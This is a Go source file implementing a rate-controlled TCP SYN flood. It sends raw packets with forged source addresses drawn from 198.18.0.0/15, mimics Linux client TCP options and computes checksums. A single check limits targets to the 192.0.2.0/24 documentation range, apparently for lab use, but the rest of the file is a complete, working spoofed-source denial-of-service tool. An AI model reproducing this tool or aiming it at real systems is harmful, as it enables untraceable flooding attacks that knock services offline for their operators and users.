package main

import (
	"encoding/binary"
	"fmt"
	"net/netip"
	"time"

	"golang.org/x/sys/unix"
)

// forged is how many sources a flood claims to come from: 198.18.0.0/15, which
// is set aside for benchmarks (RFC 2544).
const forged = 1 << 14

// flood sends SYNs to ports that no service answers, and to the one that does,
// in the name of others.
func flood(to netip.Addr, length time.Duration, rate int) error {
	if !netip.MustParsePrefix("192.0.2.0/24").Contains(to) {
		return fmt.Errorf("%s is no address of a lab", to)
	}
	fd, err := unix.Socket(unix.AF_INET, unix.SOCK_RAW, unix.IPPROTO_RAW)
	if err != nil {
		return err
	}
	defer unix.Close(fd)
	address, start, sent := &unix.SockaddrInet4{Addr: to.As4()}, time.Now(), 0
	for time.Since(start) < length {
		for due := int(time.Since(start).Seconds() * float64(rate)); sent < due; sent++ {
			if err := unix.Sendto(fd, syn(to, sent), 0, address); err != nil {
				return err
			}
		}
		time.Sleep(time.Millisecond)
	}
	return nil
}

// syn is the SYN of that number: an IPv4 header, whose checksum the kernel
// fills in (raw(7)), and a TCP header with the options of a Linux client.
func syn(to netip.Addr, number int) []byte {
	p := make([]byte, 60)
	p[0], p[8], p[9] = 0x45, 64, unix.IPPROTO_TCP
	binary.BigEndian.PutUint32(p[12:], 198<<24|18<<16|uint32(number*7919%forged))
	copy(p[16:], to.AsSlice())
	port := uint16(1 + number%65535)
	if number%4 == 0 {
		port = 80
	}
	tcp := p[20:]
	binary.BigEndian.PutUint16(tcp, uint16(1024+number%60000))
	binary.BigEndian.PutUint16(tcp[2:], port)
	binary.BigEndian.PutUint32(tcp[4:], uint32(number)*2654435761)
	tcp[12], tcp[13] = 10<<4, 2 // ten words of header, SYN
	binary.BigEndian.PutUint16(tcp[14:], 64240)
	copy(tcp[20:], []byte{2, 4, 5, 0xb4, 4, 2, 8, 10, 0, 0, 0, 1, 0, 0, 0, 0, 1, 3, 3, 7})
	binary.BigEndian.PutUint16(tcp[16:], checksum(p))
	return p
}

// checksum is that of the TCP segment with its pseudo-header (RFC 9293, 3.1).
func checksum(packet []byte) uint16 {
	sum := uint32(unix.IPPROTO_TCP) + uint32(len(packet)-20)
	for i := 12; i < len(packet); i += 2 {
		sum += uint32(binary.BigEndian.Uint16(packet[i:]))
	}
	for sum > 0xffff {
		sum = sum>>16 + sum&0xffff
	}
	return ^uint16(sum)
}
